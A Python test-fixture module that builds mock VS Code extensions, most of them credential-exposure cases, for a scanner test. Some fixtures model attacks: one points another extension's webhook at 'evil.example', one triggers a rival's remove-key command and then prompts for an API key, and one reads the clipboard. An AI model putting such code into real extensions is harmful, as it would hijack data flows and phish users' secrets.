"""The hand-built mini-extension corpus: 12 vulnerable, 6 benign.

Each vulnerable fixture reproduces one exposure pattern — plain-text
credential keys in configuration or global state, a manipulable webhook
setting, credential input prompts, a foreign command listener, and
command abuse — plus benign packages that must stay finding-free.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import make_package_dir, make_vsix


@dataclass(frozen=True)
class FixtureSpec:
    name: str
    manifest: dict
    files: dict[str, str] = field(default_factory=dict)
    expected_vectors: frozenset[str] = frozenset()
    as_vsix: bool = False
    nested: bool = True


def _manifest(publisher: str, name: str, **extra) -> dict:
    base = {"publisher": publisher, "name": name, "version": "1.0.0", "engines": {"vscode": "^1.80.0"}}
    base.update(extra)
    return base


FIXTURES: list[FixtureSpec] = [
    # -- vulnerable ------------------------------------------------------
    FixtureSpec(
        name="easycode.chatgpt-helper",
        manifest=_manifest(
            "easycode",
            "chatgpt-helper",
            displayName="ChatGPT Helper",
            contributes={
                "configuration": {
                    "title": "ChatGPT Helper",
                    "properties": {
                        "easycode.openAI ApiKey": {
                            "type": "string",
                            "description": "Your OpenAI Api Key",
                        }
                    },
                }
            },
        ),
        files={
            "out/extension.js": (
                "const vscode = require('vscode');\n"
                "function activate() {\n"
                "  const apikey = vscode.workspace.getConfiguration().get('easycode.openAI ApiKey');\n"
                "  return apikey;\n"
                "}\n"
                "module.exports = { activate };\n"
            )
        },
        expected_vectors=frozenset({"RequestedConfiguration", "UsedConfiguration"}),
        as_vsix=True,
    ),
    FixtureSpec(
        name="tabmine.ai-chat",
        manifest=_manifest("tabmine", "ai-chat", displayName="Tabmine AI Chat"),
        files={
            "dist/main.js": (
                "const h = \"CHAT_CONVERSATIONS\";\n"
                "function save(e, t) {\n"
                "  const h = \"CHAT_CONVERSATIONS\";\n"
                "  const n = e.globalState.get(h, { conversations: {} });\n"
                "  n.conversations[t.id] = { id: t.id, messages: t.messages };\n"
                "  return e.globalState.update(h, n);\n"
                "}\n"
                "module.exports = { save };\n"
            )
        },
        expected_vectors=frozenset({"GlobalState"}),
    ),
    FixtureSpec(
        name="tldrdev.discord-code-share",
        manifest=_manifest(
            "tldrdev",
            "discord-code-share",
            displayName="Discord Code Share",
            contributes={
                "configuration": {
                    "properties": {
                        "discordCodeShare.webhook": {
                            "type": "string",
                            "description": "Webhook used to deliver your code to.",
                        }
                    }
                }
            },
        ),
        files={"out/share.js": "exports.run = function () { return 1; };\n"},
        expected_vectors=frozenset({"RequestedConfiguration"}),
    ),
    FixtureSpec(
        name="attacker.config-hijack",
        manifest=_manifest("attacker", "config-hijack", displayName="Helpful Utilities"),
        files={
            "index.js": (
                "const vscode = require('vscode');\n"
                "const attacker_url = 'https://evil.example/hook';\n"
                "function activate() {\n"
                "  vscode.workspace.getConfiguration().update('discordCodeShare.webhook', attacker_url);\n"
                "}\n"
                "module.exports = { activate };\n"
            )
        },
        expected_vectors=frozenset({"UsedConfiguration"}),
        nested=False,
    ),
    FixtureSpec(
        name="zhang.chat-gpt",
        manifest=_manifest("zhang", "chat-gpt", displayName="Chat GPT"),
        files={
            "out/ask.js": (
                "const vscode = require('vscode');\n"
                "async function ask() {\n"
                "  const key = await vscode.window.showInputBox({\n"
                "    prompt: 'Please enter your OpenAI API key',\n"
                "    password: true\n"
                "  });\n"
                "  return key;\n"
                "}\n"
                "module.exports = { ask };\n"
            )
        },
        expected_vectors=frozenset({"InputBox"}),
        as_vsix=True,
    ),
    FixtureSpec(
        name="attacker.command-listener",
        manifest=_manifest(
            "attacker",
            "command-listener",
            displayName="Productivity Booster",
            activationEvents=["onCommand:codegpt.removeApiKeyCodeGPT"],
        ),
        files={
            "index.js": (
                "const vscode = require('vscode');\n"
                "function activate() {\n"
                "  const pasted = vscode.env.clipboard.readText();\n"
                "  return pasted;\n"
                "}\n"
                "module.exports = { activate };\n"
            )
        },
        expected_vectors=frozenset({"UsedCommand"}),
        nested=False,
    ),
    FixtureSpec(
        name="attacker.command-abuser",
        manifest=_manifest("attacker", "command-abuser", displayName="Snippet Pack Plus"),
        files={
            "main.js": (
                "const vscode = require('vscode');\n"
                "async function trick() {\n"
                "  vscode.commands.executeCommand('codegpt.removeApiKeyCodeGPT');\n"
                "  const apiKey = await vscode.window.showInputBox({ title: 'Enter your API KEY' });\n"
                "  return apiKey;\n"
                "}\n"
                "module.exports = { trick };\n"
            )
        },
        expected_vectors=frozenset({"UsedCommand", "InputBox"}),
    ),
    FixtureSpec(
        name="codegpt.code-assistant",
        manifest=_manifest(
            "codegpt",
            "code-assistant",
            displayName="CodeGPT",
            contributes={
                "commands": [
                    {"command": "codegpt.removeApiKeyCodeGPT", "title": "Remove API Key"}
                ]
            },
        ),
        files={
            "dist/extension.js": (
                "const vscode = require('vscode');\n"
                "function activate(ctx) {\n"
                "  ctx.subscriptions.push(\n"
                "    vscode.commands.registerCommand('codegpt.removeApiKeyCodeGPT', () => {})\n"
                "  );\n"
                "}\n"
                "module.exports = { activate };\n"
            )
        },
        expected_vectors=frozenset({"RequestedCommand", "UsedCommand"}),
    ),
    FixtureSpec(
        name="acme.password-manager",
        manifest=_manifest(
            "acme",
            "password-manager",
            displayName="Acme Vault",
            contributes={
                "configuration": {
                    "properties": {
                        "acme.vaultPassword": {
                            "type": "string",
                            "description": "Master password for your vault",
                        }
                    }
                }
            },
        ),
        files={
            "out/vault.js": (
                "const vscode = require('vscode');\n"
                "function unlock() {\n"
                "  return vscode.workspace.getConfiguration('acme').get('vaultPassword');\n"
                "}\n"
                "module.exports = { unlock };\n"
            )
        },
        expected_vectors=frozenset({"RequestedConfiguration", "UsedConfiguration"}),
    ),
    FixtureSpec(
        name="gitforge.token-sync",
        manifest=_manifest("gitforge", "token-sync", displayName="GitForge Sync"),
        files={
            "sync.js": (
                "const KEY = 'gitforge-access-token';\n"
                "function remember(ctx, token) {\n"
                "  const KEY = 'gitforge-access-token';\n"
                "  return ctx.globalState.update(KEY, token);\n"
                "}\n"
                "module.exports = { remember };\n"
            )
        },
        expected_vectors=frozenset({"GlobalState"}),
        nested=False,
    ),
    FixtureSpec(
        name="haas.studio",
        manifest=_manifest(
            "haas",
            "studio",
            displayName="Haas Studio",
            contributes={
                "configuration": {
                    "properties": {
                        "haasStudio.wifiSsidPwd": {
                            "type": "string",
                            "description": "WiFi SSID and password for the device",
                        }
                    }
                }
            },
        ),
        expected_vectors=frozenset({"RequestedConfiguration"}),
    ),
    FixtureSpec(
        name="chatmate.session-keeper",
        manifest=_manifest("chatmate", "session-keeper", displayName="ChatMate"),
        files={
            "out/session.js": (
                "function persist(ctx, value) {\n"
                "  ctx.globalState.update('chatgpt-session-token', value);\n"
                "  ctx.globalState.update('chatgpt-gpt3-apiKey', value);\n"
                "}\n"
                "module.exports = { persist };\n"
            )
        },
        expected_vectors=frozenset({"GlobalState"}),
    ),
    # -- benign ----------------------------------------------------------
    FixtureSpec(
        name="midnight.theme",
        manifest=_manifest(
            "midnight",
            "theme",
            displayName="Midnight Theme",
            categories=["Themes"],
            contributes={"themes": [{"label": "Midnight", "path": "./themes/midnight.json"}]},
        ),
    ),
    FixtureSpec(
        name="prettyjs.formatter",
        manifest=_manifest(
            "prettyjs",
            "formatter",
            displayName="PrettyJS",
            contributes={
                "commands": [{"command": "prettyjs.format", "title": "Format Document"}],
                "configuration": {
                    "properties": {
                        "prettyjs.formatOnSave": {
                            "type": "boolean",
                            "description": "Format the document when saving",
                            "default": False,
                        }
                    }
                },
            },
        ),
        files={
            "out/fmt.js": (
                "const vscode = require('vscode');\n"
                "function activate(ctx) {\n"
                "  vscode.commands.registerCommand('prettyjs.format', () => {});\n"
                "  const on = vscode.workspace.getConfiguration('prettyjs').get('formatOnSave');\n"
                "  return on;\n"
                "}\n"
                "module.exports = { activate };\n"
            )
        },
    ),
    FixtureSpec(
        name="pylite.linter",
        manifest=_manifest(
            "pylite",
            "linter",
            displayName="PyLite Linter",
            activationEvents=["onLanguage:python"],
            contributes={"commands": [{"command": "pylite.run", "title": "Run Linter"}]},
        ),
        files={"lint.js": "exports.run = function () { return []; };\n"},
        nested=False,
    ),
    FixtureSpec(
        name="runner.test-runner",
        manifest=_manifest(
            "runner",
            "test-runner",
            displayName="Test Runner",
            contributes={"commands": [{"command": "runner.runTests", "title": "Run Tests"}]},
        ),
        files={
            "out/run.js": (
                "function record(ctx) {\n"
                "  ctx.globalState.update('lastRunTimestamp', Date.now());\n"
                "}\n"
                "module.exports = { record };\n"
            )
        },
        as_vsix=True,
    ),
    FixtureSpec(
        name="mdview.preview",
        manifest=_manifest("mdview", "preview", displayName="Markdown Preview Plus"),
        files={
            "out/open.js": (
                "const vscode = require('vscode');\n"
                "async function openNamed() {\n"
                "  const name = await vscode.window.showInputBox({ prompt: 'Enter a file name' });\n"
                "  return name;\n"
                "}\n"
                "module.exports = { openNamed };\n"
            )
        },
    ),
    FixtureSpec(
        name="reactsnips.snippets",
        manifest=_manifest(
            "reactsnips",
            "snippets",
            displayName="React Snippets",
            contributes={
                "configuration": {
                    "properties": {
                        "reactsnips.enableHover": {
                            "type": "boolean",
                            "description": "Enable hover previews",
                        }
                    }
                }
            },
        ),
    ),
]

VULNERABLE = [f for f in FIXTURES if f.expected_vectors]
BENIGN = [f for f in FIXTURES if not f.expected_vectors]


def build_fixture(spec: FixtureSpec, root: Path) -> Path:
    if spec.as_vsix:
        return make_vsix(root / f"{spec.name}.vsix", spec.manifest, spec.files)
    return make_package_dir(root / spec.name, spec.manifest, spec.files, nested=spec.nested)


def build_fixture_corpus(root: Path) -> dict[str, FixtureSpec]:
    """Materialize all fixtures under ``root``; returns name -> spec."""
    root.mkdir(parents=True, exist_ok=True)
    for spec in FIXTURES:
        build_fixture(spec, root)
    return {spec.name: spec for spec in FIXTURES}
